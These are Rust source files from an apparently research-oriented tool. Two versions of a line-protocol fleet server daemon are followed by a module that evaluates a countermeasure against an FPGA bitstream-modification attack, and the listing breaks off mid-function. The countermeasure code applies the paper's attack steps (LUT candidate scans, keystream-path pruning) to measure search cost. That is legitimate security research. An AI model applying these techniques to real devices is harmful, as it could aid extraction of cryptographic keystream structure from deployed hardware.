pub const DEFAULT_READ_TIMEOUT: Duration = Duration::from_secs(30);

/// Where a fleet server listens (and a client connects).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Endpoint {
    /// A TCP address (`127.0.0.1:7545`; port 0 binds an ephemeral
    /// port, printed at startup).
    Tcp(String),
    /// A Unix-domain socket path.
    #[cfg(unix)]
    Unix(PathBuf),
}

impl Endpoint {
    /// Parses an `--addr` argument: anything containing a path
    /// separator (or prefixed `unix:`) is a Unix socket path,
    /// everything else a TCP address.
    #[must_use]
    pub fn parse(addr: &str) -> Self {
        #[cfg(unix)]
        {
            if let Some(path) = addr.strip_prefix("unix:") {
                return Endpoint::Unix(PathBuf::from(path));
            }
            if addr.contains('/') {
                return Endpoint::Unix(PathBuf::from(addr));
            }
        }
        Endpoint::Tcp(addr.to_string())
    }
}

impl core::fmt::Display for Endpoint {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            Endpoint::Tcp(addr) => write!(f, "{addr}"),
            #[cfg(unix)]
            Endpoint::Unix(path) => write!(f, "unix:{}", path.display()),
        }
    }
}

#[derive(Debug)]
enum Listener {
    Tcp(TcpListener),
    #[cfg(unix)]
    Unix(UnixListener),
}

/// The serving front end: bind, then [`FleetServer::run`] until a
/// `shutdown` request arrives.
#[derive(Debug)]
pub struct FleetServer {
    fleet: Arc<Fleet>,
    listener: Listener,
    endpoint: Endpoint,
    stop: Arc<AtomicBool>,
    chaos: Option<Arc<ChaosListener>>,
    read_timeout: Duration,
}

impl FleetServer {
    /// Binds the endpoint. With `Tcp("…:0")` the kernel assigns a
    /// port — read the bound address back with
    /// [`FleetServer::endpoint`].
    ///
    /// # Errors
    ///
    /// The underlying bind error.
    pub fn bind(endpoint: &Endpoint, fleet: Fleet) -> io::Result<Self> {
        let (listener, endpoint) = match endpoint {
            Endpoint::Tcp(addr) => {
                let listener = TcpListener::bind(addr)?;
                let bound = Endpoint::Tcp(listener.local_addr()?.to_string());
                (Listener::Tcp(listener), bound)
            }
            #[cfg(unix)]
            Endpoint::Unix(path) => {
                // A stale socket file from a killed daemon would make
                // every restart fail; remove it first (connect-level
                // liveness is the client's problem, not bind's).
                let _ = std::fs::remove_file(path);
                (Listener::Unix(UnixListener::bind(path)?), Endpoint::Unix(path.clone()))
            }
        };
        Ok(Self {
            fleet: Arc::new(fleet),
            listener,
            endpoint,
            stop: Arc::new(AtomicBool::new(false)),
            chaos: None,
            read_timeout: DEFAULT_READ_TIMEOUT,
        })
    }

    /// Wraps every accepted connection in a seeded
    /// [`ChaosStream`](super::chaos::ChaosStream) injecting `profile`
    /// — self-hosted wire-fault injection for chaos tests and the
    /// `--chaos-*` serve flags. Faults injected to date surface as
    /// `fleet.net.chaos_faults` in the `counters` verb.
    #[must_use]
    pub fn with_chaos(mut self, profile: ChaosProfile) -> Self {
        self.chaos = Some(Arc::new(ChaosListener::new(profile)));
        self
    }

    /// Overrides the per-connection read deadline (see
    /// [`DEFAULT_READ_TIMEOUT`]).
    #[must_use]
    pub fn with_read_timeout(mut self, timeout: Duration) -> Self {
        self.read_timeout = timeout;
        self
    }

    /// The bound endpoint (with the real port when bound to port 0).
    #[must_use]
    pub fn endpoint(&self) -> &Endpoint {
        &self.endpoint
    }

    /// The fleet behind the server.
    #[must_use]
    pub fn fleet(&self) -> &Arc<Fleet> {
        &self.fleet
    }

    /// The chaos wrapper, when configured with
    /// [`FleetServer::with_chaos`].
    #[must_use]
    pub fn chaos(&self) -> Option<&Arc<ChaosListener>> {
        self.chaos.as_ref()
    }

    /// Accepts and serves connections until a `shutdown` request,
    /// then *drains* the fleet — running sessions checkpoint into
    /// their journals and requeue, queued sessions stay durable on
    /// disk, and the next boot on the same root resumes both — and
    /// returns.
    pub fn run(self) {
        loop {
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            let timeout = self.read_timeout;
            let conn: io::Result<Box<dyn NetStream>> = match &self.listener {
                Listener::Tcp(listener) => listener.accept().and_then(|(s, _)| {
                    s.set_read_timeout(Some(timeout))?;
                    s.set_write_timeout(Some(timeout))?;
                    Ok(Box::new(s) as Box<dyn NetStream>)
                }),
                #[cfg(unix)]
                Listener::Unix(listener) => listener.accept().and_then(|(s, _)| {
                    s.set_read_timeout(Some(timeout))?;
                    s.set_write_timeout(Some(timeout))?;
                    Ok(Box::new(s) as Box<dyn NetStream>)
                }),
            };
            let Ok(conn) = conn else { continue };
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            self.fleet.telemetry().incr(names::FLEET_NET_CONNECTIONS, 1);
            let conn: Box<dyn NetStream> = match &self.chaos {
                Some(chaos) => Box::new(chaos.wrap(conn)),
                None => conn,
            };
            let ctx = ConnCtx {
                fleet: self.fleet.clone(),
                stop: self.stop.clone(),
                endpoint: self.endpoint.clone(),
                chaos: self.chaos.clone(),
            };
            let _ = thread::Builder::new().name("fleet-conn".into()).spawn(move || {
                let _ = serve_connection(&ctx, conn);
            });
        }
        let _ = self.fleet.drain();
        #[cfg(unix)]
        if let Endpoint::Unix(path) = &self.endpoint {
            let _ = std::fs::remove_file(path);
        }
    }

    /// Runs the accept loop on a background thread — the test/embed
    /// entry point. The returned handle joins it.
    #[must_use]
    pub fn spawn(self) -> thread::JoinHandle<()> {
        thread::Builder::new()
            .name("fleet-server".into())
            .spawn(move || self.run())
            .expect("server thread spawns")
    }
}

/// Everything one connection thread needs — bundled so the accept
/// loop hands a single owned context across the spawn.
struct ConnCtx {
    fleet: Arc<Fleet>,
    stop: Arc<AtomicBool>,
    endpoint: Endpoint,
    chaos: Option<Arc<ChaosListener>>,
}

/// Whether an I/O error is a read-deadline expiry (the two kinds the
/// platforms use for socket timeouts).
fn is_timeout(e: &io::Error) -> bool {
    matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut)
}

fn serve_connection(ctx: &ConnCtx, conn: Box<dyn NetStream>) -> io::Result<()> {
    let fleet = &ctx.fleet;
    let stop = ctx.stop.as_ref();
    let mut writer = conn.try_clone_stream()?;
    let mut reader = BufReader::new(conn);
    let mut buf = Vec::new();
    loop {
        buf.clear();
        // Byte-level framing with a hard cap: read_until on a take()
        // adapter bounds what one request can buffer, and keeps the
        // raw bytes so a torn or garbled frame is rejected *before*
        // any parsing.
        let n = match (&mut reader).take(wire::MAX_LINE as u64 + 2).read_until(b'\n', &mut buf) {
            Ok(n) => n,
            Err(e) if is_timeout(&e) => {
                // The peer went quiet past the read deadline: close
                // the connection rather than leak its thread. Running
                // sessions are untouched.
                fleet.telemetry().incr(names::FLEET_NET_IDLE_CLOSED, 1);
                return Ok(());
            }
            Err(e) => return Err(e),
        };
        if n == 0 {
            return Ok(());
        }
        if buf.last() != Some(&b'\n') {
            // No newline: either the peer disconnected mid-frame (a
            // torn frame — the bytes must NOT be parsed as a request,
            // or a partial `submit` becomes a phantom session) or the
            // line blew past the cap. Reject and close.
            fleet.telemetry().incr(names::FLEET_NET_FRAMES_REJECTED, 1);
            if buf.len() > wire::MAX_LINE {
                let message = WireError::LineTooLong(buf.len()).to_string();
                let _ = writeln!(writer, "{}", wire::error_json(&message));
                let _ = writer.flush();
            }
            return Ok(());
        }
        buf.pop();
        if buf.last() == Some(&b'\r') {
            buf.pop();
        }
        let request = match wire::decode_line(&buf) {
            Ok(request) => request,
            Err(e) => {
                fleet.telemetry().incr(names::FLEET_NET_FRAMES_REJECTED, 1);
                writeln!(writer, "{}", wire::error_json(&e.to_string()))?;
                writer.flush()?;
                match e {
                    // A garbled or oversized frame means the stream
                    // itself is unreliable — the framing may be
                    // desynchronised, so close instead of guessing at
                    // the next boundary.
                    WireError::NotUtf8 | WireError::LineTooLong(_) => return Ok(()),
                    _ => continue,
                }
            }
        };
        match request {
            Request::Submit { spec, token } => {
                let response = match fleet.submit_with_token(spec, token.as_deref()) {
                    Ok((handle, true)) => {
                        // A replayed token is a client retrying after
                        // a lost acknowledgement: a reconnect in all
                        // but name.
                        fleet.telemetry().incr(names::FLEET_NET_SUBMIT_DEDUPED, 1);
                        fleet.telemetry().incr(names::FLEET_NET_RECONNECTS, 1);
                        wire::submit_deduped_json(handle.id())
                    }
                    Ok((handle, false)) => wire::submit_json(handle.id()),
                    Err(e) => wire::error_json(&e.to_string()),
                };
                writeln!(writer, "{response}")?;
            }
            Request::Status(id) => {
                let response = match fleet.handle(&id) {
                    Some(handle) => wire::status_json(&handle.status()),
                    None => wire::error_json(&format!("unknown session '{id}'")),
                };
                writeln!(writer, "{response}")?;
            }
            Request::List => {
                let statuses: Vec<_> =
                    fleet.sessions().iter().map(super::store::SessionHandle::status).collect();
                writeln!(writer, "{}", wire::list_json(&statuses))?;
            }
            Request::Tail { id, from } => match fleet.handle(&id) {
                Some(handle) => {
                    fleet.telemetry().incr(names::FLEET_NET_TAILS_OPENED, 1);
                    if from > 0 {
                        // A non-zero cursor is a subscriber resuming a
                        // dropped stream.
                        fleet.telemetry().incr(names::FLEET_NET_RECONNECTS, 1);
                    }
                    stream_tail(fleet, &mut writer, stop, &handle, from)?;
                }
                None => {
                    writeln!(writer, "{}", wire::error_json(&format!("unknown session '{id}'")))?
                }
            },
            Request::Cancel(id) => {
                let response = match fleet.handle(&id) {
                    Some(handle) => {
                        handle.cancel();
                        wire::submit_json(handle.id())
                    }
                    None => wire::error_json(&format!("unknown session '{id}'")),
                };
                writeln!(writer, "{response}")?;
            }
            Request::Counters => {
                let metrics = fleet.counters();
                let mut counters: Vec<(String, u64)> =
                    metrics.counters().map(|(name, v)| (name.to_string(), v)).collect();
                if let Some(chaos) = &ctx.chaos {
                    counters
                        .push((names::FLEET_NET_CHAOS_FAULTS.to_string(), chaos.faults_injected()));
                    counters.sort();
                }
                writeln!(writer, "{}", wire::counters_json(&counters))?;
            }
            Request::Health => {
                // The gap counter lives in the merged fleet metrics:
                // injected minus observed, folded per session.
                let gap = fleet.counters().counter(crate::telemetry::names::BOARD_FAULT_GAP);
                writeln!(writer, "{}", wire::health_json(&fleet.health(), gap))?;
            }
            Request::Ping => writeln!(writer, "{{\"ok\":true,\"pong\":true}}")?,
            Request::Shutdown => {
                writeln!(writer, "{{\"ok\":true,\"shutdown\":true}}")?;
                writer.flush()?;
                stop.store(true, Ordering::SeqCst);
                wake_accept(&ctx.endpoint);
                return Ok(());
            }
        }
        writer.flush()?;
    }
}

/// How many idle 20 ms polls a `tail` stream waits before sending a
/// heartbeat (~500 ms cadence).
const HEARTBEAT_IDLE_TICKS: u32 = 25;

/// Streams a session's NDJSON telemetry to `writer` — starting after
/// the subscriber's `from` cursor — until the session is terminal (or
/// the server stops), then sends the `done` terminator. The stream is
/// a *lease*: idle stretches carry heartbeats, and the first write
/// the subscriber's socket refuses reaps the subscription (counted as
/// `fleet.net.leases_reaped`) instead of leaking the thread against a
/// dead peer.
fn stream_tail(
    fleet: &Fleet,
    writer: &mut Box<dyn NetStream>,
    stop: &AtomicBool,
    handle: &super::store::SessionHandle,
    from: u64,
) -> io::Result<()> {
    let mut sent = usize::try_from(from).unwrap_or(usize::MAX);
    let mut idle_ticks = 0u32;
    let mut heartbeats = 0u64;
    let reap = |fleet: &Fleet| {
        fleet.telemetry().incr(names::FLEET_NET_LEASES_REAPED, 1);
        Ok(())
    };
    loop {
        let lines = handle.tap_lines();
        let fresh = &lines[sent.min(lines.len())..];
        idle_ticks = if fresh.is_empty() { idle_ticks + 1 } else { 0 };
        for line in fresh {
            if writeln!(writer, "{line}").is_err() {
                return reap(fleet);
            }
        }
        sent = sent.max(lines.len());
        if writer.flush().is_err() {
            return reap(fleet);
        }
        let state = handle.state();
        if state.is_terminal() {
            // One final drain so nothing between the last poll and
            // the terminal transition is lost.
            let lines = handle.tap_lines();
            for line in &lines[sent.min(lines.len())..] {
                if writeln!(writer, "{line}").is_err() {
                    return reap(fleet);
                }
            }
            if writeln!(writer, "{}", wire::tail_done_json(&handle.status())).is_err() {
                return reap(fleet);
            }
            let _ = writer.flush();
            return Ok(());
        }
        if stop.load(Ordering::SeqCst) {
            let status =
                super::store::SessionStatus { state: SessionState::Queued, ..handle.status() };
            let _ = writeln!(writer, "{}", wire::tail_done_json(&status));
            let _ = writer.flush();
            return Ok(());
        }
        if idle_ticks >= HEARTBEAT_IDLE_TICKS {
            idle_ticks = 0;
            heartbeats += 1;
            if writeln!(writer, "{}", wire::heartbeat_json(heartbeats)).is_err()
                || writer.flush().is_err()
            {
                return reap(fleet);
            }
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// Unblocks the accept loop after `stop` flips: one throwaway
/// self-connection.
fn wake_accept(endpoint: &Endpoint) {
    match endpoint {
        Endpoint::Tcp(addr) => {
            let _ = TcpStream::connect(addr);
        }
        #[cfg(unix)]
        Endpoint::Unix(path) => {
            let _ = UnixStream::connect(path);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoint_parse_distinguishes_tcp_and_unix() {
        assert_eq!(Endpoint::parse("127.0.0.1:7545"), Endpoint::Tcp("127.0.0.1:7545".into()));
        #[cfg(unix)]
        {
            assert_eq!(
                Endpoint::parse("/tmp/bitmod.sock"),
                Endpoint::Unix(PathBuf::from("/tmp/bitmod.sock"))
            );
            assert_eq!(
                Endpoint::parse("unix:relative.sock"),
                Endpoint::Unix(PathBuf::from("relative.sock"))
            );
            assert_eq!(Endpoint::parse("unix:rel.sock").to_string(), "unix:rel.sock");
        }
    }
}
