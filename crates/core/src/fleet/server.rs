//! The `bitmod serve` daemon: a line-protocol front end over a
//! [`Fleet`].
//!
//! One thread accepts connections (TCP or — on Unix — a Unix-domain
//! socket); each connection gets a thread speaking the
//! [`wire`](super::wire) protocol: newline-framed requests in, one
//! JSON line out per request, except `tail`, which streams the
//! session's NDJSON telemetry until the session is terminal. The
//! daemon is deliberately boring: all scheduling intelligence lives
//! in the [`Fleet`], all framing in [`wire`], so the server is a
//! dispatch table.

use std::io::{self, BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
#[cfg(unix)]
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use super::scheduler::Fleet;
use super::store::SessionState;
use super::wire::{self, Request};

/// Where a fleet server listens (and a client connects).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Endpoint {
    /// A TCP address (`127.0.0.1:7545`; port 0 binds an ephemeral
    /// port, printed at startup).
    Tcp(String),
    /// A Unix-domain socket path.
    #[cfg(unix)]
    Unix(PathBuf),
}

impl Endpoint {
    /// Parses an `--addr` argument: anything containing a path
    /// separator (or prefixed `unix:`) is a Unix socket path,
    /// everything else a TCP address.
    #[must_use]
    pub fn parse(addr: &str) -> Self {
        #[cfg(unix)]
        {
            if let Some(path) = addr.strip_prefix("unix:") {
                return Endpoint::Unix(PathBuf::from(path));
            }
            if addr.contains('/') {
                return Endpoint::Unix(PathBuf::from(addr));
            }
        }
        Endpoint::Tcp(addr.to_string())
    }
}

impl core::fmt::Display for Endpoint {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            Endpoint::Tcp(addr) => write!(f, "{addr}"),
            #[cfg(unix)]
            Endpoint::Unix(path) => write!(f, "unix:{}", path.display()),
        }
    }
}

#[derive(Debug)]
enum Listener {
    Tcp(TcpListener),
    #[cfg(unix)]
    Unix(UnixListener),
}

/// The serving front end: bind, then [`FleetServer::run`] until a
/// `shutdown` request arrives.
#[derive(Debug)]
pub struct FleetServer {
    fleet: Arc<Fleet>,
    listener: Listener,
    endpoint: Endpoint,
    stop: Arc<AtomicBool>,
}

impl FleetServer {
    /// Binds the endpoint. With `Tcp("…:0")` the kernel assigns a
    /// port — read the bound address back with
    /// [`FleetServer::endpoint`].
    ///
    /// # Errors
    ///
    /// The underlying bind error.
    pub fn bind(endpoint: &Endpoint, fleet: Fleet) -> io::Result<Self> {
        let (listener, endpoint) = match endpoint {
            Endpoint::Tcp(addr) => {
                let listener = TcpListener::bind(addr)?;
                let bound = Endpoint::Tcp(listener.local_addr()?.to_string());
                (Listener::Tcp(listener), bound)
            }
            #[cfg(unix)]
            Endpoint::Unix(path) => {
                // A stale socket file from a killed daemon would make
                // every restart fail; remove it first (connect-level
                // liveness is the client's problem, not bind's).
                let _ = std::fs::remove_file(path);
                (Listener::Unix(UnixListener::bind(path)?), Endpoint::Unix(path.clone()))
            }
        };
        Ok(Self {
            fleet: Arc::new(fleet),
            listener,
            endpoint,
            stop: Arc::new(AtomicBool::new(false)),
        })
    }

    /// The bound endpoint (with the real port when bound to port 0).
    #[must_use]
    pub fn endpoint(&self) -> &Endpoint {
        &self.endpoint
    }

    /// The fleet behind the server.
    #[must_use]
    pub fn fleet(&self) -> &Arc<Fleet> {
        &self.fleet
    }

    /// Accepts and serves connections until a `shutdown` request,
    /// then drains the fleet (graceful worker shutdown) and returns.
    pub fn run(self) {
        loop {
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            let conn = match &self.listener {
                Listener::Tcp(listener) => listener.accept().map(|(s, _)| Conn::Tcp(s)),
                #[cfg(unix)]
                Listener::Unix(listener) => listener.accept().map(|(s, _)| Conn::Unix(s)),
            };
            let Ok(conn) = conn else { continue };
            if self.stop.load(Ordering::SeqCst) {
                break;
            }
            let fleet = self.fleet.clone();
            let stop = self.stop.clone();
            let endpoint = self.endpoint.clone();
            let _ = thread::Builder::new().name("fleet-conn".into()).spawn(move || {
                let _ = serve_connection(&fleet, &stop, &endpoint, conn);
            });
        }
        let _ = self.fleet.shutdown();
        #[cfg(unix)]
        if let Endpoint::Unix(path) = &self.endpoint {
            let _ = std::fs::remove_file(path);
        }
    }

    /// Runs the accept loop on a background thread — the test/embed
    /// entry point. The returned handle joins it.
    #[must_use]
    pub fn spawn(self) -> thread::JoinHandle<()> {
        thread::Builder::new()
            .name("fleet-server".into())
            .spawn(move || self.run())
            .expect("server thread spawns")
    }
}

#[derive(Debug)]
enum Conn {
    Tcp(TcpStream),
    #[cfg(unix)]
    Unix(UnixStream),
}

impl Conn {
    fn try_clone(&self) -> io::Result<Conn> {
        Ok(match self {
            Conn::Tcp(s) => Conn::Tcp(s.try_clone()?),
            #[cfg(unix)]
            Conn::Unix(s) => Conn::Unix(s.try_clone()?),
        })
    }
}

impl io::Read for Conn {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        match self {
            Conn::Tcp(s) => s.read(buf),
            #[cfg(unix)]
            Conn::Unix(s) => s.read(buf),
        }
    }
}

impl io::Write for Conn {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        match self {
            Conn::Tcp(s) => s.write(buf),
            #[cfg(unix)]
            Conn::Unix(s) => s.write(buf),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        match self {
            Conn::Tcp(s) => s.flush(),
            #[cfg(unix)]
            Conn::Unix(s) => s.flush(),
        }
    }
}

use std::io::Read as _;

fn serve_connection(
    fleet: &Fleet,
    stop: &AtomicBool,
    endpoint: &Endpoint,
    conn: Conn,
) -> io::Result<()> {
    let mut writer = conn.try_clone()?;
    let mut reader = BufReader::new(conn);
    let mut line = String::new();
    loop {
        line.clear();
        // Guard against unbounded lines: read_line on a take()
        // adapter caps what one request can buffer.
        let n = (&mut reader).take(wire::MAX_LINE as u64 + 1).read_line(&mut line)?;
        if n == 0 {
            return Ok(());
        }
        let request = match Request::parse(&line) {
            Ok(request) => request,
            Err(e) => {
                writeln!(writer, "{}", wire::error_json(&e.to_string()))?;
                continue;
            }
        };
        match request {
            Request::Submit(spec) => {
                let response = match fleet.submit(spec) {
                    Ok(handle) => wire::submit_json(handle.id()),
                    Err(e) => wire::error_json(&e.to_string()),
                };
                writeln!(writer, "{response}")?;
            }
            Request::Status(id) => {
                let response = match fleet.handle(&id) {
                    Some(handle) => wire::status_json(&handle.status()),
                    None => wire::error_json(&format!("unknown session '{id}'")),
                };
                writeln!(writer, "{response}")?;
            }
            Request::List => {
                let statuses: Vec<_> =
                    fleet.sessions().iter().map(super::store::SessionHandle::status).collect();
                writeln!(writer, "{}", wire::list_json(&statuses))?;
            }
            Request::Tail(id) => match fleet.handle(&id) {
                Some(handle) => stream_tail(&mut writer, stop, &handle)?,
                None => {
                    writeln!(writer, "{}", wire::error_json(&format!("unknown session '{id}'")))?
                }
            },
            Request::Cancel(id) => {
                let response = match fleet.handle(&id) {
                    Some(handle) => {
                        handle.cancel();
                        wire::submit_json(handle.id())
                    }
                    None => wire::error_json(&format!("unknown session '{id}'")),
                };
                writeln!(writer, "{response}")?;
            }
            Request::Counters => {
                let metrics = fleet.counters();
                let counters: Vec<(String, u64)> =
                    metrics.counters().map(|(name, v)| (name.to_string(), v)).collect();
                writeln!(writer, "{}", wire::counters_json(&counters))?;
            }
            Request::Health => {
                // The gap counter lives in the merged fleet metrics:
                // injected minus observed, folded per session.
                let gap = fleet.counters().counter(crate::telemetry::names::BOARD_FAULT_GAP);
                writeln!(writer, "{}", wire::health_json(&fleet.health(), gap))?;
            }
            Request::Ping => writeln!(writer, "{{\"ok\":true,\"pong\":true}}")?,
            Request::Shutdown => {
                writeln!(writer, "{{\"ok\":true,\"shutdown\":true}}")?;
                writer.flush()?;
                stop.store(true, Ordering::SeqCst);
                wake_accept(endpoint);
                return Ok(());
            }
        }
        writer.flush()?;
    }
}

/// Streams a session's NDJSON telemetry to `writer` until the session
/// is terminal (or the server stops), then sends the `done`
/// terminator.
fn stream_tail(
    writer: &mut Conn,
    stop: &AtomicBool,
    handle: &super::store::SessionHandle,
) -> io::Result<()> {
    let mut sent = 0;
    loop {
        let lines = handle.tap_lines();
        for line in &lines[sent.min(lines.len())..] {
            writeln!(writer, "{line}")?;
        }
        sent = lines.len();
        writer.flush()?;
        let state = handle.state();
        if state.is_terminal() {
            // One final drain so nothing between the last poll and
            // the terminal transition is lost.
            let lines = handle.tap_lines();
            for line in &lines[sent.min(lines.len())..] {
                writeln!(writer, "{line}")?;
            }
            writeln!(writer, "{}", wire::tail_done_json(&handle.status()))?;
            writer.flush()?;
            return Ok(());
        }
        if stop.load(Ordering::SeqCst) {
            let status =
                super::store::SessionStatus { state: SessionState::Queued, ..handle.status() };
            writeln!(writer, "{}", wire::tail_done_json(&status))?;
            writer.flush()?;
            return Ok(());
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// Unblocks the accept loop after `stop` flips: one throwaway
/// self-connection.
fn wake_accept(endpoint: &Endpoint) {
    match endpoint {
        Endpoint::Tcp(addr) => {
            let _ = TcpStream::connect(addr);
        }
        #[cfg(unix)]
        Endpoint::Unix(path) => {
            let _ = UnixStream::connect(path);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoint_parse_distinguishes_tcp_and_unix() {
        assert_eq!(Endpoint::parse("127.0.0.1:7545"), Endpoint::Tcp("127.0.0.1:7545".into()));
        #[cfg(unix)]
        {
            assert_eq!(
                Endpoint::parse("/tmp/bitmod.sock"),
                Endpoint::Unix(PathBuf::from("/tmp/bitmod.sock"))
            );
            assert_eq!(
                Endpoint::parse("unix:relative.sock"),
                Endpoint::Unix(PathBuf::from("relative.sock"))
            );
            assert_eq!(Endpoint::parse("unix:rel.sock").to_string(), "unix:rel.sock");
        }
    }
}
