//! Section VII: the countermeasure and its evaluation.
//!
//! The countermeasure constrains technology mapping so that the
//! target XOR vector `v` — and `r` additional decoy XORs with the
//! same function — are covered by *trivial cuts* (bare 2-input XOR
//! LUTs, typically fractured in pairs). The composite covers of
//! Table II disappear (Table VI), and an attacker is left to pick the
//! right 32 LUTs out of hundreds of identical-looking 2-input XOR
//! halves: an exhaustive search of `C(m + r, m)` combinations
//! (Lemma VII-A).

use boolfn::TruthTable;

use bitstream::Bitstream;

use crate::attack::{AttackError, ZPathLut};
use crate::candidates::Catalogue;
use crate::edit::{CrcStrategy, EditSession};
use crate::findlut::{scan_halves, LutHit, Scanner};
use crate::oracle::KeystreamOracle;
use crate::resilient::{ResilienceConfig, ResilientOracle};

/// Lemma VII-A arithmetic.
pub mod complexity {
    /// Natural-log of the binomial coefficient `C(n, m)` (exact
    /// summation; `n` up to a few thousand).
    #[must_use]
    pub fn ln_binomial(n: u64, m: u64) -> f64 {
        if m > n {
            return f64::NEG_INFINITY;
        }
        let m = m.min(n - m);
        let mut ln = 0.0f64;
        for i in 0..m {
            ln += ((n - i) as f64).ln() - ((i + 1) as f64).ln();
        }
        ln
    }

    /// `log2(C(n, m))` — the bit-security of the exhaustive search.
    ///
    /// # Example
    ///
    /// ```
    /// use bitmod::countermeasure::complexity::log2_binomial;
    ///
    /// // The paper's Section VII-C figure: C(171, 32) ≈ 2^115.
    /// assert!((log2_binomial(171, 32) - 115.2).abs() < 0.1);
    /// ```
    #[must_use]
    pub fn log2_binomial(n: u64, m: u64) -> f64 {
        ln_binomial(n, m) / core::f64::consts::LN_2
    }

    /// The Stirling upper bound of Lemma VII-A:
    /// `C(m + r, m) ≤ (e(m + r)/m)^m`, returned as `log2`.
    #[must_use]
    pub fn log2_stirling_bound(m: u64, r: u64) -> f64 {
        let e = core::f64::consts::E;
        (m as f64) * (e * ((m + r) as f64) / (m as f64)).log2()
    }

    /// The minimal decoy multiple `x` (with `r = 32x`, `m = 32`) that
    /// pushes the bound `(e(1 + x))³²` past `2^bits`; the paper's
    /// `x ≥ 16/e − 1 ≈ 4.9` for 128-bit security.
    #[must_use]
    pub fn required_decoy_multiple(bits: f64) -> f64 {
        let e = core::f64::consts::E;
        2f64.powf(bits / 32.0) / e - 1.0
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn paper_figures() {
            // C(171, 32) ≈ 4.9 × 10^34 ≈ 2^115 (Section VII-C).
            let l2 = log2_binomial(171, 32);
            assert!((l2 - 115.0).abs() < 1.0, "log2 C(171,32) = {l2}");
            let log10 = ln_binomial(171, 32) / core::f64::consts::LN_10;
            assert!((log10 - 34.7).abs() < 0.3, "log10 C(171,32) = {log10}");
            // x ≥ 16/e − 1 ≈ 4.9 for 128 bits.
            let x = required_decoy_multiple(128.0);
            assert!((x - (16.0 / core::f64::consts::E - 1.0)).abs() < 1e-9);
            assert!((x - 4.886).abs() < 0.01, "x = {x}");
        }

        #[test]
        fn bound_dominates_binomial() {
            for (m, r) in [(32u64, 32u64), (32, 160), (16, 64)] {
                assert!(
                    log2_stirling_bound(m, r) >= log2_binomial(m + r, m),
                    "bound must be an upper bound for m={m} r={r}"
                );
            }
        }

        #[test]
        fn edge_cases() {
            assert_eq!(log2_binomial(10, 0), 0.0);
            assert_eq!(log2_binomial(10, 10), 0.0);
            assert!(ln_binomial(5, 6).is_infinite());
        }
    }
}

/// The result of evaluating a (protected) bitstream.
#[derive(Debug, Clone)]
pub struct CountermeasureReport {
    /// Candidate counts per catalogue shape — the Table VI analog.
    pub candidate_counts: Vec<(&'static str, usize)>,
    /// Hits of the Section VII-B scan ("2-input XOR in one half, any
    /// function in the other") over the whole payload.
    pub xor_half_hits_unconstrained: usize,
    /// The same scan restricted to a window around the LUT frames
    /// (the paper's "interval of 200,000 byte positions").
    pub xor_half_hits_constrained: usize,
    /// XOR-half LUTs verified to sit on the keystream path (prunable,
    /// per Section VII-C).
    pub z_path_pruned: usize,
    /// Remaining candidates after pruning.
    pub remaining: usize,
    /// `log2 C(remaining, 32)` — the exhaustive-search cost.
    pub search_bits: f64,
    /// Device configurations performed during evaluation.
    pub oracle_loads: usize,
}

/// The Section VII-B predicate: one half is exactly a 2-input XOR of
/// two of the five shared pins (the other half is then "any Boolean
/// function of up to 5 dependent variables").
#[must_use]
pub fn xor_half_predicate(o5: TruthTable, o6: TruthTable) -> bool {
    o5.as_xor_pair().is_some() || o6.as_xor_pair().is_some()
}

/// Counts the XOR-half LUT candidates in `payload` (optionally over a
/// byte window).
#[must_use]
pub fn xor_half_scan(payload: &[u8], d: usize, window: core::ops::Range<usize>) -> Vec<LutHit> {
    scan_halves(payload, d, window, xor_half_predicate)
}

/// Evaluates the countermeasure against a protected device, following
/// the attack strategy of Section VII-B/C:
///
/// 1. run the Table II candidate sweep (Table VI analog);
/// 2. scan for XOR-half LUTs, unconstrained and window-constrained;
/// 3. prune the keystream-path XORs with the stuck-bit verification
///    of Section VI-C (these LUTs *can* be identified);
/// 4. report the remaining candidate set and the exhaustive-search
///    complexity `log2 C(remaining, 32)`.
///
/// # Errors
///
/// Propagates oracle failures.
pub fn evaluate(
    oracle: &dyn KeystreamOracle,
    golden: &Bitstream,
    constrained_window: Option<core::ops::Range<usize>>,
) -> Result<CountermeasureReport, AttackError> {
    evaluate_with(oracle, golden, constrained_window, ResilienceConfig::off())
}

/// [`evaluate`] with a resilience layer between the verification
/// passes and the oracle, for unreliable boards (see
/// [`crate::resilient`]). The stuck-bit pruning of step 3 performs
/// hundreds of loads; on a flaky board each is retried and
/// majority-voted per the configuration.
///
/// # Errors
///
/// Propagates oracle and resilience failures (budget exhaustion
/// surfaces as [`AttackError::Resilience`]).
pub fn evaluate_with(
    oracle: &dyn KeystreamOracle,
    golden: &Bitstream,
    constrained_window: Option<core::ops::Range<usize>>,
    config: ResilienceConfig,
) -> Result<CountermeasureReport, AttackError> {
    let range = golden.fdri_data_range().ok_or(AttackError::NoFdriPayload)?;
    let payload = golden.as_bytes()[range].to_vec();
    let d = bitstream::FRAME_BYTES;
    let words = 16usize;
    let mut oracle = ResilientOracle::new(oracle, config);

    let golden_keystream = oracle.query(golden, words).map_err(AttackError::from)?;

    // Table VI analog — one pass over the payload for the whole
    // catalogue.
    let catalogue = Catalogue::full();
    let scanner = Scanner::builder().k(6).stride(d).catalogue(&catalogue).build()?;
    let candidate_counts: Vec<(&'static str, usize)> = catalogue
        .shapes
        .iter()
